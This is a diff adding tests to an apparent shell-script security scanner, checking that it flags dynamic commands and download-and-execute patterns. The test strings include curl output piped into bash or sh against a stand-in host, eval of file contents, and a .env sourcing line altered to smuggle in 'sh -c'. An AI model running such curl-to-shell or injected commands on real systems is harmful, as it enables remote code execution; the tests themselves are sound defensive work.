@@ -221,6 +221,32 @@ def test_a_printed_completion_needs_eyes_and_a_read_file_is_blocked() -> None:
     assert found('eval "$(cat env)"\n')["shell-eval"].severity is Severity.FAIL
 
 
+DOTENV = "source <(grep -v '^#' .env.local | sed 's/^/export /')\n"
+
+
+def test_the_lines_of_a_projects_settings_may_be_exported() -> None:
+    assert found(DOTENV)["shell-dynamic-command"].severity is Severity.WARN
+    for other in (
+        DOTENV.replace("/export /", "/sh -c /"),
+        DOTENV.replace(".env.local", "/tmp/a.env"),
+        DOTENV.replace(".env.local", ".env notes.txt"),
+        DOTENV.replace("grep -v", "grep"),
+        DOTENV.replace("source", "bash"),
+        "grep() { shift; run $1; }\n" + DOTENV,
+    ):
+        assert found(other)["shell-dynamic-command"].severity is Severity.FAIL
+    assert "shell-download-execution" in found("curl -o .env.local https://example.invalid/e\n" + DOTENV)
+
+
+def test_a_program_that_is_looked_up_is_not_run_and_what_is_printed_is_its_name() -> None:
+    fed = 'get() { curl -s "https://example.invalid/$1"; }\nshow() { jq .; }\nget "a/$1" | show\n'
+    assert "shell-download-execution" not in found("command -v python3 >/dev/null\n" + fed)
+    assert "shell-download-execution" in found("later() { command -p sh; }\n" + fed)
+    for command in ("$(command -v bash)", '"$(which sh)"', "$(type -P sh)"):
+        assert "shell-download-execution" in found(f"curl -s https://example.invalid/a | {command}\n")
+    assert "shell-download-execution" in found("B=$(command -v bash)\ncurl -s https://example.invalid/a | $B\n")
+
+
 def test_the_output_of_a_script_beside_the_text_needs_eyes() -> None:
     assert found('eval "$(./scripts/env.sh)"\n')["shell-eval"].severity is Severity.WARN
     assert found('eval "$(python3 scripts/env.py -q)"\n')["shell-eval"].severity is Severity.WARN
